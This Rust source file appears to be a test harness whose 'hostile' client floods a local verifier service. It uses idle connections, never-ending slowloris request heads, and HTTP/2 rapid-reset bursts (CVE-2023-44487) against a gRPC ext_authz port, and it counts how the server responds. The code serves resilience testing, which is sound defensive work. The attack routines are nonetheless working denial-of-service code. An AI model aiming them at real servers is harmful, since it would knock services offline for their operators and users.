//! The hostile client of the `hostile` scenario, from a source address of
//! its own (127.0.0.2, so that per-source limits tell it from the
//! well-behaved client on 127.0.0.1): idle connections that never send a
//! byte, slowloris heads that never end, and an HTTP/2 flood of streams
//! opened and reset at once (the "rapid reset" of CVE-2023-44487) against
//! the gRPC port. Each attacker reconnects when the server closes it:
//! the flood is as large as the server lets it be.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// The attacker's source address.
const SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
/// Streams opened and reset per burst, and the pause between bursts, on
/// each HTTP/2 connection: about 20,000 resets a second per connection, a
/// rate the bench machine's two cores can give without the flood client
/// alone eating the well-behaved client's share.
const RESETS_PER_BURST: u64 = 200;
const BURST_PAUSE: Duration = Duration::from_millis(10);
/// Where Envoy sends an ext_authz check.
const CHECK: &str = "http://verifier/envoy.service.auth.v3.Authorization/Check";
/// A slowloris head's pace: one more header line this often.
const SLOW_PACE: Duration = Duration::from_secs(1);
/// After a refused connect or handshake, wait this long before the next.
const RETRY_PAUSE: Duration = Duration::from_millis(100);

/// How big the flood is.
#[derive(Clone, Copy)]
pub struct Size {
    pub idle: usize,
    pub slowloris: usize,
    pub h2_connections: usize,
}

#[derive(Default)]
struct Counts {
    /// Connections established, per attack.
    idle_connected: AtomicU64,
    slow_connected: AtomicU64,
    h2_connected: AtomicU64,
    /// Connections the server closed (or reset), per attack.
    idle_closed: AtomicU64,
    slow_closed: AtomicU64,
    h2_closed: AtomicU64,
    /// Connects the server (or the kernel) refused.
    refused: AtomicU64,
    /// HTTP/2 streams opened and reset at once.
    streams_reset: AtomicU64,
}

/// The attackers run until the flood is stopped, which aborts them
/// wherever they are (a connect the kernel holds back included).
pub struct Flood {
    tasks: JoinSet<()>,
    counts: Arc<Counts>,
}

impl Flood {
    /// Starts every attacker against the verifier's HTTP (`http`) and gRPC
    /// (`grpc`) serving ports.
    pub fn start(http: SocketAddr, grpc: SocketAddr, size: Size) -> Flood {
        let counts = Arc::new(Counts::default());
        let mut tasks = JoinSet::new();
        for _ in 0..size.idle {
            tasks.spawn(idle(http, counts.clone()));
        }
        for n in 0..size.slowloris {
            tasks.spawn(slowloris(http, n, counts.clone()));
        }
        for _ in 0..size.h2_connections {
            tasks.spawn(rapid_reset(grpc, counts.clone()));
        }
        Flood { tasks, counts }
    }

    /// Stops every attacker; what the flood did.
    pub async fn stop(mut self) -> Value {
        self.tasks.abort_all();
        while self.tasks.join_next().await.is_some() {}
        let c = &self.counts;
        let n = |a: &AtomicU64| a.load(Ordering::Relaxed);
        json!({
            "source": SOURCE.to_string(),
            "idle": {"connected": n(&c.idle_connected), "closed_by_server": n(&c.idle_closed)},
            "slowloris": {"connected": n(&c.slow_connected), "closed_by_server": n(&c.slow_closed)},
            "h2_rapid_reset": {
                "connected": n(&c.h2_connected),
                "closed_by_server": n(&c.h2_closed),
                "streams_reset": n(&c.streams_reset),
            },
            "connects_refused": n(&c.refused),
        })
    }
}

/// A TCP connection to `to` from the attacker's address.
async fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(SOURCE, 0))?;
    socket.connect(to).await
}

/// Connects, and holds the connection without sending a byte until the
/// server closes it, then again.
async fn idle(to: SocketAddr, counts: Arc<Counts>) {
    loop {
        let mut stream = match connect(to).await {
            Ok(stream) => stream,
            Err(_) => {
                counts.refused.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(RETRY_PAUSE).await;
                continue;
            }
        };
        counts.idle_connected.fetch_add(1, Ordering::Relaxed);
        let mut byte = [0; 1];
        let _ = stream.read(&mut byte).await;
        counts.idle_closed.fetch_add(1, Ordering::Relaxed);
    }
}

/// A request head that never ends: one more header line every
/// [`SLOW_PACE`], until the server closes the connection, then again.
async fn slowloris(to: SocketAddr, n: usize, counts: Arc<Counts>) {
    loop {
        let Ok(mut stream) = connect(to).await else {
            counts.refused.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(RETRY_PAUSE).await;
            continue;
        };
        counts.slow_connected.fetch_add(1, Ordering::Relaxed);
        let head = format!("GET /forward-auth?project=p{n} HTTP/1.1\r\nHost: verifier\r\n");
        let mut line = 0u64;
        let mut written = stream.write_all(head.as_bytes()).await;
        while written.is_ok() {
            let mut byte = [0; 1];
            tokio::select! {
                _ = stream.read(&mut byte) => break,
                () = tokio::time::sleep(SLOW_PACE) => {}
            }
            line += 1;
            written = stream
                .write_all(format!("X-Slow-{line}: {n}\r\n").as_bytes())
                .await;
        }
        counts.slow_closed.fetch_add(1, Ordering::Relaxed);
    }
}

/// HTTP/2 streams opened (an ext_authz Check's request head) and reset at
/// once, in bursts, on one connection after another.
async fn rapid_reset(to: SocketAddr, counts: Arc<Counts>) {
    loop {
        let Ok(stream) = connect(to).await else {
            counts.refused.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(RETRY_PAUSE).await;
            continue;
        };
        let Ok((send, connection)) = h2::client::handshake(stream).await else {
            counts.h2_closed.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(RETRY_PAUSE).await;
            continue;
        };
        counts.h2_connected.fetch_add(1, Ordering::Relaxed);
        // The connection is driven in this task, beside the streams.
        tokio::select! {
            _ = connection => {}
            () = resets(send, &counts) => {}
        }
        counts.h2_closed.fetch_add(1, Ordering::Relaxed);
    }
}

/// Opens and resets streams on `send` until the connection fails.
async fn resets(mut send: h2::client::SendRequest<bytes::Bytes>, counts: &Counts) {
    loop {
        for _ in 0..RESETS_PER_BURST {
            send = match send.ready().await {
                Ok(send) => send,
                Err(_) => return,
            };
            let request = http::Request::post(CHECK)
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(());
            let Ok(request) = request else { return };
            match send.send_request(request, false) {
                Ok((_, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    counts.streams_reset.fetch_add(1, Ordering::Relaxed);
                }
                Err(_) => return,
            }
        }
        tokio::time::sleep(BURST_PAUSE).await;
    }
}
